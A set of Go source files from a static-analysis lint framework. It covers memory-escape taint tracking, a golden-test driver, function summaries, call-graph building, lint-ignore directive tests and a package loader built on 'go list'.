	}
	// unsafe.String/Slice/SliceData/StringData/Add are builtins (not
	// *types.Func), reached through a selector; they all re-view their
	// operand's memory.
	if sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr); ok {
		if b, ok := fl.cfg.Info.ObjectOf(sel.Sel).(*types.Builtin); ok {
			switch b.Name() {
			case "String", "Slice", "SliceData", "StringData", "Add":
				m := Mask(0)
				for _, a := range call.Args {
					m |= fl.exprMask(a)
				}
				return m
			}
			return 0
		}
	}
	if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok {
		if b, ok := fl.cfg.Info.ObjectOf(id).(*types.Builtin); ok {
			switch b.Name() {
			case "append":
				m := Mask(0)
				if len(call.Args) > 0 {
					m = fl.exprMask(call.Args[0])
					// Appended elements are copied; reference-carrying
					// element types keep their taint inside the result.
					if st, ok := fl.typeOf(call.Args[0]).Underlying().(*types.Slice); ok && CarriesReference(st.Elem()) {
						for _, a := range call.Args[1:] {
							m |= fl.exprMask(a)
						}
					}
				}
				return m
			case "min", "max":
				m := Mask(0)
				for _, a := range call.Args {
					m |= fl.exprMask(a)
				}
				return m
			}
			return 0
		}
	}
	fn := CalleeOf(fl.cfg.Info, call)
	if fn == nil {
		return 0 // dynamic call: optimistic, documented above
	}
	if pkg := fn.Pkg(); pkg != nil {
		switch pkg.Path() {
		case "unsafe":
			// unsafe.String/Slice/SliceData/Pointer all re-view their
			// operand's memory.
			m := Mask(0)
			for _, a := range call.Args {
				m |= fl.exprMask(a)
			}
			return m
		case "strings", "bytes":
			if fn.Name() == "Clone" {
				return 0 // deep copy
			}
		}
	}
	if fl.cfg.Summaries != nil {
		if sum := fl.cfg.Summaries(fn); sum != nil && sum.Returns != 0 {
			m := Mask(0)
			fl.eachArg(call, fn, func(idx int, arg ast.Expr) {
				if idx < 64 && sum.Returns&(1<<idx) != 0 {
					m |= fl.exprMask(arg)
				}
			})
			return m
		}
	}
	return 0
}

// conversionMask decides whether the conversion T(x) shares memory with
// x. String/byte/rune crossings copy; everything else (named slice
// types, unsafe.Pointer round-trips) keeps the backing array.
func (fl *flowState) conversionMask(to types.Type, x ast.Expr) Mask {
	from := fl.typeOf(x)
	if from == nil {
		return 0
	}
	_, fromStr := from.Underlying().(*types.Basic)
	_, toStr := to.Underlying().(*types.Basic)
	if fromStr != toStr {
		return 0 // string(b), []byte(s), []rune(s): copies
	}
	return fl.exprMask(x)
}

// eachArg maps call arguments onto summary parameter indices: receiver
// (for method calls) is index 0 and declared parameters follow;
// variadic arguments collapse onto the last parameter.
func (fl *flowState) eachArg(call *ast.CallExpr, fn *types.Func, visit func(idx int, arg ast.Expr)) {
	sig, ok := fn.Type().(*types.Signature)
	if !ok {
		return
	}
	shift := 0
	if sig.Recv() != nil {
		shift = 1
		if sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr); ok {
			if sl, found := fl.cfg.Info.Selections[sel]; found && sl.Kind() == types.MethodVal {
				visit(0, sel.X)
			}
		}
	}
	n := sig.Params().Len()
	for i, arg := range call.Args {
		idx := i
		if idx >= n {
			idx = n - 1 // variadic tail
		}
		if idx < 0 {
			continue
		}
		visit(idx+shift, arg)
	}
}

// findSinks walks the body once after the fixpoint and reports every
// escape of tainted data.
func (fl *flowState) findSinks(sink func(Sink)) {
	var walk func(n ast.Node, inLit bool)
	walk = func(n ast.Node, inLit bool) {
		ast.Inspect(n, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.FuncLit:
				// Returns inside a literal are the literal's, not the
				// analyzed function's; everything else still counts.
				walk(n.Body, true)
				return false
			case *ast.AssignStmt:
				for i, lhs := range n.Lhs {
					if m := fl.assignedMask(n, i); m != 0 {
						fl.storeSink(lhs, m, sink)
					}
				}
			case *ast.SendStmt:
				if m := fl.exprMask(n.Value); m != 0 {
					sink(Sink{Kind: SinkChanSend, Pos: n.Arrow, Mask: m})
				}
			case *ast.ReturnStmt:
				if inLit {
					return true
				}
				for _, res := range n.Results {
					if m := fl.exprMask(res); m != 0 {
						sink(Sink{Kind: SinkReturn, Pos: res.Pos(), Mask: m})
					}
				}
			case *ast.CallExpr:
				fl.callSinks(n, sink)
			}
			return true
		})
	}
	walk(fl.fd.Body, false)
}

// storeSink classifies an assignment to lhs carrying mask m.
func (fl *flowState) storeSink(lhs ast.Expr, m Mask, sink func(Sink)) {
	if obj := fl.obj(lhs); obj != nil {
		if isPackageLevel(obj) {
			sink(Sink{Kind: SinkGlobal, Pos: lhs.Pos(), Mask: m, Target: obj, LHS: lhs})
		}
		return
	}
	root := rootExpr(lhs)
	rootObj := fl.obj(root)
	switch {
	case rootObj != nil && isPackageLevel(rootObj):
		sink(Sink{Kind: SinkGlobal, Pos: lhs.Pos(), Mask: m, Target: rootObj, LHS: lhs})
	case rootObj != nil && !isPointerish(rootObj.Type()):
		// Store into a local value aggregate: propagation already
		// tainted the aggregate; not an escape by itself.
	default:
		// Through a pointer, a map, or an expression the function did
		// not create: the written memory may outlive the call.
		s := Sink{Kind: SinkFieldStore, Pos: lhs.Pos(), Mask: m, LHS: lhs}
		if sel, ok := ast.Unparen(lhs).(*ast.SelectorExpr); ok {
			s.FieldSel = sel
			if sl, found := fl.cfg.Info.Selections[sel]; found {
				s.Target = sl.Obj()
			}
		}
		sink(s)
	}
}

// callSinks reports tainted arguments passed to parameters the callee's
// summary marks as escaping.
func (fl *flowState) callSinks(call *ast.CallExpr, sink func(Sink)) {
	if fl.cfg.Summaries == nil {
		return
	}
	fn := CalleeOf(fl.cfg.Info, call)
	if fn == nil {
		return
	}
	sum := fl.cfg.Summaries(fn)
	if sum == nil || sum.Escapes == 0 {
		return
	}
	fl.eachArg(call, fn, func(idx int, arg ast.Expr) {
		if idx >= 64 || sum.Escapes&(1<<idx) == 0 {
			return
		}
		if m := fl.exprMask(arg); m != 0 {
			sink(Sink{Kind: SinkArgEscape, Pos: arg.Pos(), Mask: m, Callee: fn, ArgIndex: idx})
		}
	})
}

func (fl *flowState) isBuiltin(call *ast.CallExpr, name string) bool {
	id, ok := ast.Unparen(call.Fun).(*ast.Ident)
	if !ok {
		return false
	}
	b, ok := fl.cfg.Info.ObjectOf(id).(*types.Builtin)
	return ok && b.Name() == name
}

// RootExpr strips selector/index/deref/paren layers down to the base
// expression being written through: RootExpr of (*z.cur).Attr[i] is z.
func RootExpr(e ast.Expr) ast.Expr { return rootExpr(e) }

// rootExpr strips selector/index/deref/paren layers down to the base
// expression being written through.
func rootExpr(e ast.Expr) ast.Expr {
	for {
		switch x := e.(type) {
		case *ast.ParenExpr:
			e = x.X
		case *ast.SelectorExpr:
			e = x.X
		case *ast.IndexExpr:
			e = x.X
		case *ast.StarExpr:
			e = x.X
		default:
			return e
		}
	}
}

func isPackageLevel(obj types.Object) bool {
	v, ok := obj.(*types.Var)
	return ok && v.Pkg() != nil && v.Parent() == v.Pkg().Scope()
}

func isPointerish(t types.Type) bool {
	if t == nil {
		return true
	}
	switch t.Underlying().(type) {
	case *types.Pointer, *types.Map, *types.Interface:
		return true
	}
	return false
}

// CarriesReference reports whether values of type t can share backing
// memory with the place they were copied from: slices, pointers, maps,
// channels, funcs, interfaces, or aggregates containing one. Strings
// are deliberately excluded — under the repo's view contract a string
// produced by the parser points into the unpooled input buffer, so a
// copied string header is safe to retain.
func CarriesReference(t types.Type) bool {
	return carriesRef(t, make(map[types.Type]bool))
}

func carriesRef(t types.Type, seen map[types.Type]bool) bool {
	if t == nil || seen[t] {
		return false
	}
	seen[t] = true
	switch u := t.Underlying().(type) {
	case *types.Pointer, *types.Slice, *types.Map, *types.Chan, *types.Signature, *types.Interface:
		return true
	case *types.Array:
		return carriesRef(u.Elem(), seen)
	case *types.Struct:
		for i := 0; i < u.NumFields(); i++ {
			if carriesRef(u.Field(i).Type(), seen) {
				return true
			}
		}
	}
	return false
}
