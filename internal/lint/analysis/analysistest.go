package analysis

import (
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"
)

// RunTest is the golden-test driver (the analysistest stand-in): it
// loads the module rooted at testdata (which must carry its own go.mod
// so `go list` resolves it offline), runs the analyzer, and matches
// every diagnostic against `// want "regexp"` comments on the same
// line. Unmatched diagnostics and unmet expectations both fail t.
func RunTest(t *testing.T, testdata string, a *Analyzer, patterns ...string) {
	t.Helper()
	diags := RunTestDiagnostics(t, testdata, a, patterns...)

	type expectation struct {
		re  *regexp.Regexp
		met bool
	}
	expects := make(map[string][]*expectation) // "file:line" -> wants
	seen := make(map[string]bool)
	pkgs, err := Load(testdata, patterns...)
	if err != nil {
		t.Fatalf("reloading %s: %v", testdata, err)
	}
	for _, pkg := range pkgs {
		files := append(append([]string(nil), pkg.GoFiles...), pkg.TestGoFiles...)
		files = append(files, pkg.XTestGoFiles...)
		for _, name := range files {
			if seen[name] {
				continue
			}
			seen[name] = true
			for line, wants := range scanWants(t, name) {
				key := fmt.Sprintf("%s:%d", name, line)
				for _, w := range wants {
					re, err := regexp.Compile(w)
					if err != nil {
						t.Fatalf("%s: bad want regexp %q: %v", key, w, err)
					}
					expects[key] = append(expects[key], &expectation{re: re})
				}
			}
		}
	}

	for _, d := range diags {
		key := fmt.Sprintf("%s:%d", d.Pos.Filename, d.Pos.Line)
		matched := false
		for _, e := range expects[key] {
			if !e.met && e.re.MatchString(d.Message) {
				e.met = true
				matched = true
				break
			}
		}
		if !matched {
			t.Errorf("unexpected diagnostic at %s: %s", key, d.Message)
		}
	}
	for key, es := range expects {
		for _, e := range es {
			if !e.met {
				t.Errorf("%s: no diagnostic matched want %q", key, e.re)
			}
		}
	}
}

// RunTestDiagnostics loads testdata and returns the analyzer's raw
// diagnostics (ignore directives already applied), for tests that
// assert on them directly.
func RunTestDiagnostics(t *testing.T, testdata string, a *Analyzer, patterns ...string) []Diagnostic {
	t.Helper()
	pkgs, err := Load(testdata, patterns...)
	if err != nil {
		t.Fatalf("loading %s: %v", testdata, err)
	}
	diags, err := Run(pkgs, []*Analyzer{a})
	if err != nil {
		t.Fatalf("running %s: %v", a.Name, err)
	}
	return diags
}

// wantRE matches the quoted patterns after a `// want` marker:
// double-quoted Go-ish strings or backquoted raw strings.
var wantRE = regexp.MustCompile("\"((?:[^\"\\\\]|\\\\.)*)\"|`([^`]*)`")

// scanWants returns the expectations of one file, keyed by line.
func scanWants(t *testing.T, filename string) map[int][]string {
	t.Helper()
	data, err := os.ReadFile(filename)
	if err != nil {
		t.Fatalf("reading %s: %v", filename, err)
	}
	out := make(map[int][]string)
	for i, line := range strings.Split(string(data), "\n") {
		idx := strings.Index(line, "// want ")
		if idx < 0 {
			continue
		}
		rest := line[idx+len("// want "):]
		for _, m := range wantRE.FindAllStringSubmatch(rest, -1) {
			w := m[1]
			if m[2] != "" {
				w = m[2]
			}
			w = strings.ReplaceAll(w, `\"`, `"`)
			out[i+1] = append(out[i+1], w)
		}
	}
	return out
}
