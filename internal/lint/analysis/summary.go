package analysis

import (
	"go/ast"
	"go/types"
)

// FuncSummary is the per-function escape/retention summary the driver
// computes for every function it has source for. Parameter indices
// follow the call convention used throughout the framework: the
// receiver (when there is one) is index 0 and declared parameters
// follow.
//
// Escapes bit i means calling the function may store parameter i's
// reference identity (the slice/pointer itself, or an aggregate
// containing it — not a string copied out of it) somewhere that
// outlives the call: a package-level variable, a channel, memory
// reached through a pointer, or a further escaping call. Returns bit i
// means a result may alias parameter i's memory.
//
// Summaries compose across packages: dependency-ordered processing
// means a function's summary is always computed after the summaries of
// everything it (statically) calls in other packages, and a fixpoint
// pass handles recursion inside one package.
type FuncSummary struct {
	NumParams int
	Escapes   Mask
	Returns   Mask
}

// summarizePackage computes summaries for every function declared in
// pkg, iterating to a fixpoint so package-local (including mutual)
// recursion converges. Dependencies' summaries are already in
// prog.summaries.
func (prog *Program) summarizePackage(pkg *Package) {
	type fnDecl struct {
		key string
		fd  *ast.FuncDecl
	}
	var fns []fnDecl
	for _, f := range pkg.Syntax {
		for _, d := range f.Decls {
			fd, ok := d.(*ast.FuncDecl)
			if !ok || fd.Name == nil {
				continue
			}
			obj := pkg.Info.ObjectOf(fd.Name)
			if obj == nil {
				continue
			}
			key := ObjKey(obj)
			fns = append(fns, fnDecl{key, fd})
			if prog.summaries[key] == nil {
				prog.summaries[key] = &FuncSummary{NumParams: numParams(fd, pkg.Info)}
			}
		}
	}
	lookup := func(fn *types.Func) *FuncSummary { return prog.summaries[ObjKey(fn)] }
	for iter := 0; iter < 8; iter++ {
		changed := false
		for _, fn := range fns {
			fresh := summarizeFunc(pkg.Info, fn.fd, lookup)
			cur := prog.summaries[fn.key]
			if fresh.Escapes != cur.Escapes || fresh.Returns != cur.Returns {
				*cur = fresh
				changed = true
			}
		}
		if !changed {
			break
		}
	}
}

// summarizeFunc runs the taint engine with the function's own
// parameters as sources and folds the resulting sinks into a summary.
func summarizeFunc(info *types.Info, fd *ast.FuncDecl, summaries func(*types.Func) *FuncSummary) FuncSummary {
	sum := FuncSummary{NumParams: numParams(fd, info)}
	seeds := make(map[types.Object]Mask)
	idx := 0
	seed := func(fields *ast.FieldList) {
		if fields == nil {
			return
		}
		for _, field := range fields.List {
			if len(field.Names) == 0 {
				idx++ // unnamed receiver/parameter still occupies a slot
				continue
			}
			for _, name := range field.Names {
				if obj := info.ObjectOf(name); obj != nil && idx < 64 {
					seeds[obj] = 1 << idx
				}
				idx++
			}
		}
	}
	if fd.Recv != nil {
		seed(fd.Recv)
	}
	seed(fd.Type.Params)

	cfg := &Flow{Info: info, Summaries: summaries}
	RunFlow(cfg, fd, seeds, func(s Sink) {
		switch s.Kind {
		case SinkReturn:
			sum.Returns |= s.Mask
		default:
			sum.Escapes |= s.Mask
		}
	})
	return sum
}

func numParams(fd *ast.FuncDecl, info *types.Info) int {
	n := 0
	if fd.Recv != nil {
		n = 1
	}
	if fd.Type.Params != nil {
		for _, field := range fd.Type.Params.List {
			if len(field.Names) == 0 {
				n++
				continue
			}
			n += len(field.Names)
		}
	}
	return n
}
