package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
)

// CallEdge is one statically resolved call: Caller and Callee are
// ObjKeys, Pos is the call site. Calls through function values,
// interface methods, builtins and conversions have no static callee and
// produce no edge — analyzers that need soundness there must treat
// unresolved calls conservatively themselves.
type CallEdge struct {
	Caller   string
	Callee   string
	Pos      token.Position
	InModule bool // callee is defined in one of the loaded target packages
}

// buildCallGraph walks one package and appends its outgoing edges to
// the program's adjacency map. The caller of package-scope
// initialization expressions is keyed "<pkgpath>.init".
func (prog *Program) buildCallGraph(pkg *Package) {
	initKey := pkg.ImportPath + ".init"
	for _, f := range pkg.Syntax {
		WalkStack(f, func(n ast.Node, stack []ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			fn := CalleeOf(pkg.Info, call)
			if fn == nil {
				return true
			}
			caller := initKey
			if enc := EnclosingFunc(stack); enc != nil {
				if fd, ok := enc.(*ast.FuncDecl); ok {
					if obj := pkg.Info.ObjectOf(fd.Name); obj != nil {
						caller = ObjKey(obj)
					}
				} else {
					// Function literals belong to the function that wrote
					// them: a closure spawned from f is still f's code.
					for i := len(stack) - 1; i >= 0; i-- {
						if fd, ok := stack[i].(*ast.FuncDecl); ok {
							if obj := pkg.Info.ObjectOf(fd.Name); obj != nil {
								caller = ObjKey(obj)
							}
							break
						}
					}
				}
			}
			callee := ObjKey(fn)
			inModule := fn.Pkg() != nil && prog.byPath[fn.Pkg().Path()] != nil
			prog.calls[caller] = append(prog.calls[caller], CallEdge{
				Caller:   caller,
				Callee:   callee,
				Pos:      pkg.Fset.Position(call.Pos()),
				InModule: inModule,
			})
			return true
		})
	}
}

// Calls returns the outgoing statically resolved call edges of the
// function keyed by callerKey, in source order.
func (prog *Program) Calls(callerKey string) []CallEdge {
	return prog.calls[callerKey]
}

// CalleeOf is Pass.Callee without a Pass: it resolves the function or
// method a call invokes through info, or nil for dynamic calls.
func CalleeOf(info *types.Info, call *ast.CallExpr) *types.Func {
	var id *ast.Ident
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		id = fun
	case *ast.SelectorExpr:
		id = fun.Sel
	default:
		return nil
	}
	fn, _ := info.ObjectOf(id).(*types.Func)
	return fn
}
