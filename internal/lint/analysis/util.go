package analysis

import (
	"go/ast"
	"go/types"
)

// Callee resolves the function or method a call expression invokes, or
// nil for calls through non-identifier expressions (function values,
// builtins, conversions).
func (p *Pass) Callee(call *ast.CallExpr) *types.Func {
	var id *ast.Ident
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		id = fun
	case *ast.SelectorExpr:
		id = fun.Sel
	default:
		return nil
	}
	fn, _ := p.ObjectOf(id).(*types.Func)
	return fn
}

// CalleeIn reports whether the call invokes the named function of the
// exact package path (stdlib-style, e.g. "time", "Sleep").
func (p *Pass) CalleeIn(call *ast.CallExpr, pkgPath, name string) bool {
	fn := p.Callee(call)
	return fn != nil && fn.Pkg() != nil && fn.Pkg().Path() == pkgPath && fn.Name() == name
}

// InsideLoop reports whether the stack passes through a for or range
// statement below the innermost enclosing function.
func InsideLoop(stack []ast.Node) bool {
	for i := len(stack) - 1; i >= 0; i-- {
		switch stack[i].(type) {
		case *ast.ForStmt, *ast.RangeStmt:
			return true
		case *ast.FuncDecl, *ast.FuncLit:
			return false
		}
	}
	return false
}
