// Package analysis is a dependency-free mirror of the
// golang.org/x/tools/go/analysis API surface that hvlint's analyzers
// target: an Analyzer with a per-package Run function, a Pass carrying
// the type-checked syntax of one package, and plain-position
// Diagnostics. The repository builds offline with a baked-in toolchain
// and no module cache, so the x/tools driver cannot be vendored; this
// package reimplements the thin slice hvlint needs (single-pass
// analyzers plus a whole-program Finish hook) on top of the standard
// library. If the real x/tools dependency ever becomes available, the
// analyzers port mechanically: Run has the same shape, and Finish
// collapses into Facts.
package analysis

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// Diagnostic is one finding, resolved to a file position.
type Diagnostic struct {
	// Analyzer is the name of the analyzer that produced the finding
	// (matched by //lint:ignore directives).
	Analyzer string
	Pos      token.Position
	Message  string
}

func (d Diagnostic) String() string {
	return fmt.Sprintf("%s: %s: %s", d.Pos, d.Analyzer, d.Message)
}

// Analyzer is one invariant checker. Run is invoked once per loaded
// package, in dependency order (a package's imports are always visited
// before it). Analyzers that need cross-package state allocate it in
// NewRun and reconcile it in Finish — the offline stand-in for the
// x/tools Facts mechanism.
type Analyzer struct {
	// Name identifies the analyzer in output and in //lint:ignore
	// directives. Lower-case, no spaces.
	Name string
	// Doc is the one-paragraph invariant description shown by -list.
	Doc string
	// NewRun, if set, allocates per-run state shared by every Run and
	// the Finish call of one driver invocation. Analyzers must not keep
	// state in package-level variables: a driver (or a test) may run the
	// same Analyzer many times.
	NewRun func() any
	// Run inspects one package.
	Run func(*Pass) error
	// Finish, if set, runs after every package has been visited; it
	// reports whole-program findings (e.g. "constant never referenced").
	Finish func(state any, report func(pos token.Position, format string, args ...any))
}

// Pass carries everything Run may inspect about one package.
type Pass struct {
	Analyzer *Analyzer
	Fset     *token.FileSet
	// Pkg is the loaded package: syntax, types, and file lists.
	Pkg *Package
	// Prog is the whole-run view: every loaded package, //hv:
	// directives, the call graph, escape summaries, and the
	// cross-analyzer fact store.
	Prog *Program
	// State is this run's NewRun value (nil without NewRun).
	State any

	report func(Diagnostic)
}

// Reportf records a finding at pos.
func (p *Pass) Reportf(pos token.Pos, format string, args ...any) {
	p.report(Diagnostic{
		Analyzer: p.Analyzer.Name,
		Pos:      p.Fset.Position(pos),
		Message:  fmt.Sprintf(format, args...),
	})
}

// TypeOf returns the type of expression e, or nil if unknown.
func (p *Pass) TypeOf(e ast.Expr) types.Type {
	return p.Pkg.Info.TypeOf(e)
}

// ObjectOf resolves an identifier through Uses then Defs.
func (p *Pass) ObjectOf(id *ast.Ident) types.Object {
	return p.Pkg.Info.ObjectOf(id)
}

// Run drives the analyzers over the loaded packages: every Run in
// package order, then every Finish, then //lint:ignore filtering. The
// returned diagnostics are sorted by position.
func Run(pkgs []*Package, analyzers []*Analyzer) ([]Diagnostic, error) {
	var diags []Diagnostic
	collect := func(d Diagnostic) { diags = append(diags, d) }

	prog := BuildProgram(pkgs)
	diags = append(diags, prog.diags...)

	states := make(map[*Analyzer]any, len(analyzers))
	for _, a := range analyzers {
		if a.NewRun != nil {
			states[a] = a.NewRun()
		}
	}
	for _, pkg := range pkgs {
		for _, a := range analyzers {
			pass := &Pass{
				Analyzer: a,
				Fset:     pkg.Fset,
				Pkg:      pkg,
				Prog:     prog,
				State:    states[a],
				report:   collect,
			}
			if err := a.Run(pass); err != nil {
				return nil, fmt.Errorf("%s: %s: %w", a.Name, pkg.ImportPath, err)
			}
		}
	}
	for _, a := range analyzers {
		if a.Finish == nil {
			continue
		}
		name := a.Name
		a.Finish(states[a], func(pos token.Position, format string, args ...any) {
			collect(Diagnostic{Analyzer: name, Pos: pos, Message: fmt.Sprintf(format, args...)})
		})
	}

	names := make(map[string]bool, len(analyzers))
	for _, a := range analyzers {
		names[a.Name] = true
	}
	diags, malformed := filterIgnored(pkgs, diags, names)
	diags = append(diags, malformed...)
	sort.Slice(diags, func(i, j int) bool {
		a, b := diags[i], diags[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		if a.Pos.Column != b.Pos.Column {
			return a.Pos.Column < b.Pos.Column
		}
		return a.Message < b.Message
	})
	return diags, nil
}

// HasPathSuffix reports whether the import path is, or ends with, the
// given slash-separated suffix: HasPathSuffix("a.com/internal/core",
// "internal/core") is true. Analyzers use it so the same configuration
// matches both the real module and analysistest fixtures.
func HasPathSuffix(path, suffix string) bool {
	return path == suffix || strings.HasSuffix(path, "/"+suffix)
}

// WalkStack traverses f depth-first, calling fn with each node and the
// stack of its ancestors (outermost first, not including n). If fn
// returns false the node's children are skipped.
func WalkStack(f *ast.File, fn func(n ast.Node, stack []ast.Node) bool) {
	var stack []ast.Node
	ast.Inspect(f, func(n ast.Node) bool {
		if n == nil {
			stack = stack[:len(stack)-1]
			return true
		}
		descend := fn(n, stack)
		if !descend {
			return false
		}
		stack = append(stack, n)
		return true
	})
}

// EnclosingFunc returns the innermost enclosing function declaration or
// literal on the stack, or nil at package scope.
func EnclosingFunc(stack []ast.Node) ast.Node {
	for i := len(stack) - 1; i >= 0; i-- {
		switch stack[i].(type) {
		case *ast.FuncDecl, *ast.FuncLit:
			return stack[i]
		}
	}
	return nil
}
