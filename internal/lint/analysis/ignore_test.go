package analysis_test

import (
	"go/ast"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hvscan/hvscan/internal/lint/analysis"
)

// funcFlagger reports one finding per function whose name starts with
// "target" — a minimal diagnostic source for exercising the directive
// machinery end to end.
var funcFlagger = &analysis.Analyzer{
	Name: "testcheck",
	Doc:  "flags every function named target*",
	Run: func(pass *analysis.Pass) error {
		for _, f := range pass.Pkg.Syntax {
			for _, decl := range f.Decls {
				fd, ok := decl.(*ast.FuncDecl)
				if !ok || !strings.HasPrefix(fd.Name.Name, "target") {
					continue
				}
				pass.Reportf(fd.Pos(), "flagged %s", fd.Name.Name)
			}
		}
		return nil
	},
}

const ignoreFixture = `package p

func targetKept() {}

//lint:ignore testcheck covered by the integration suite
func targetStandalone() {}

func targetTrailing() {} //lint:ignore testcheck trailing directives govern their own line

//lint:ignore othercheck directives only silence the named analyzer
func targetMismatch() {}

//lint:ignore all the wildcard silences every analyzer
func targetWildcard() {}

//lint:ignore testcheck
func targetNoReason() {}

//lint:ignore
func targetNoFields() {}

//lint:ignore testcheck predates the helper rename
func renamedHelper() {}

//lint:ignore othersuite aimed at an analyzer that did not run
func otherHelper() {}
`

func TestIgnoreDirectives(t *testing.T) {
	dir := t.TempDir()
	write := func(name, content string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("go.mod", "module example.com\n\ngo 1.22\n")
	write("p.go", ignoreFixture)

	diags := analysis.RunTestDiagnostics(t, dir, funcFlagger)

	var got []string
	for _, d := range diags {
		got = append(got, d.Analyzer+": "+d.Message)
	}
	want := []string{
		// A well-formed directive for another analyzer does not
		// suppress, malformed directives suppress nothing and add an
		// hvlint finding, and undirected findings stay.
		"testcheck: flagged targetKept",
		"testcheck: flagged targetMismatch",
		"hvlint: //lint:ignore testcheck needs a justification: every suppression must record why",
		"testcheck: flagged targetNoReason",
		"hvlint: malformed //lint:ignore: want \"//lint:ignore <analyzer> <reason>\"",
		"testcheck: flagged targetNoFields",
		// A directive that suppresses nothing is stale and becomes a
		// finding itself — but only when its analyzer actually ran.
		"hvlint: stale //lint:ignore testcheck directive: it suppresses nothing — delete it (reason was: predates the helper rename)",
	}
	if len(got) != len(want) {
		t.Fatalf("got %d diagnostics, want %d:\n%s", len(got), len(want), strings.Join(got, "\n"))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("diagnostic %d:\n  got  %s\n  want %s", i, got[i], want[i])
		}
	}
}
