package analysis

import (
	"bytes"
	"encoding/json"
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"io"
	"os"
	"os/exec"
	"strings"
)

// Package is one loaded, type-checked package plus the syntax-only
// parse of its test files (test files are matched textually by
// analyzers like specerrors; they are not type-checked, so loading
// stays a single `go list` away from working offline).
type Package struct {
	ImportPath string
	Name       string
	Dir        string

	GoFiles      []string // absolute, non-test, as compiled
	TestGoFiles  []string // absolute, in-package _test.go
	XTestGoFiles []string // absolute, package foo_test

	Fset       *token.FileSet
	Syntax     []*ast.File // parsed GoFiles, type-checked
	TestSyntax []*ast.File // parsed Test/XTest files, syntax only

	Types *types.Package
	Info  *types.Info
}

// listPackage is the subset of `go list -json` output the loader reads.
type listPackage struct {
	ImportPath   string
	Name         string
	Dir          string
	GoFiles      []string
	TestGoFiles  []string
	XTestGoFiles []string
	Export       string
	DepOnly      bool
	Standard     bool
}

// Load lists the packages matching patterns under dir (module mode),
// compiles export data for their dependencies via `go list -export`,
// and type-checks the target packages from source. Only the targets —
// not their dependencies — are returned, in dependency order:
// a returned package is always preceded by the returned packages it
// imports.
func Load(dir string, patterns ...string) ([]*Package, error) {
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	args := append([]string{
		"list", "-deps", "-export",
		"-json=ImportPath,Name,Dir,GoFiles,TestGoFiles,XTestGoFiles,Export,DepOnly,Standard",
	}, patterns...)
	cmd := exec.Command("go", args...)
	cmd.Dir = dir
	var stdout, stderr bytes.Buffer
	cmd.Stdout = &stdout
	cmd.Stderr = &stderr
	if err := cmd.Run(); err != nil {
		return nil, fmt.Errorf("go list %s: %w\n%s", strings.Join(patterns, " "), err, stderr.String())
	}

	var listed []*listPackage
	byPath := make(map[string]*listPackage)
	dec := json.NewDecoder(&stdout)
	for {
		lp := new(listPackage)
		if err := dec.Decode(lp); err == io.EOF {
			break
		} else if err != nil {
			return nil, fmt.Errorf("decoding go list output: %w", err)
		}
		listed = append(listed, lp)
		byPath[lp.ImportPath] = lp
	}

	fset := token.NewFileSet()
	// Dependencies are imported from the export data `go list -export`
	// just produced; the gc importer resolves transitive references
	// through the same lookup.
	lookup := func(path string) (io.ReadCloser, error) {
		lp, ok := byPath[path]
		if !ok || lp.Export == "" {
			return nil, fmt.Errorf("no export data for %q", path)
		}
		return os.Open(lp.Export)
	}
	imp := importer.ForCompiler(fset, "gc", lookup)

	var out []*Package
	for _, lp := range listed {
		if lp.DepOnly || lp.Standard || vendored(lp.ImportPath, lp.Dir) {
			continue
		}
		pkg, err := typeCheck(fset, imp, lp)
		if err != nil {
			return nil, err
		}
		out = append(out, pkg)
	}
	return out, nil
}

// vendored reports whether a listed package is vendored third-party
// source. Vendored code is not ours to lint: it is pinned upstream
// source whose style predates this repo's invariants, so no pattern —
// not even an explicit ./vendor/... — may drag it into an analysis
// run. Under -mod=vendor a vendored package keeps its upstream import
// path, so the on-disk directory is checked as well.
func vendored(importPath, dir string) bool {
	return strings.HasPrefix(importPath, "vendor/") ||
		strings.Contains(importPath, "/vendor/") ||
		strings.Contains(dir, "/vendor/")
}

// typeCheck parses and checks one target package from source.
func typeCheck(fset *token.FileSet, imp types.Importer, lp *listPackage) (*Package, error) {
	pkg := &Package{
		ImportPath:   lp.ImportPath,
		Name:         lp.Name,
		Dir:          lp.Dir,
		GoFiles:      absAll(lp.Dir, lp.GoFiles),
		TestGoFiles:  absAll(lp.Dir, lp.TestGoFiles),
		XTestGoFiles: absAll(lp.Dir, lp.XTestGoFiles),
		Fset:         fset,
	}
	for _, name := range pkg.GoFiles {
		f, err := parser.ParseFile(fset, name, nil, parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", lp.ImportPath, err)
		}
		pkg.Syntax = append(pkg.Syntax, f)
	}
	for _, name := range append(append([]string(nil), pkg.TestGoFiles...), pkg.XTestGoFiles...) {
		f, err := parser.ParseFile(fset, name, nil, parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", lp.ImportPath, err)
		}
		pkg.TestSyntax = append(pkg.TestSyntax, f)
	}

	pkg.Info = &types.Info{
		Types:      make(map[ast.Expr]types.TypeAndValue),
		Defs:       make(map[*ast.Ident]types.Object),
		Uses:       make(map[*ast.Ident]types.Object),
		Implicits:  make(map[ast.Node]types.Object),
		Selections: make(map[*ast.SelectorExpr]*types.Selection),
		Scopes:     make(map[ast.Node]*types.Scope),
	}
	var firstErr error
	conf := types.Config{
		Importer: imp,
		Error: func(err error) {
			if firstErr == nil {
				firstErr = err
			}
		},
	}
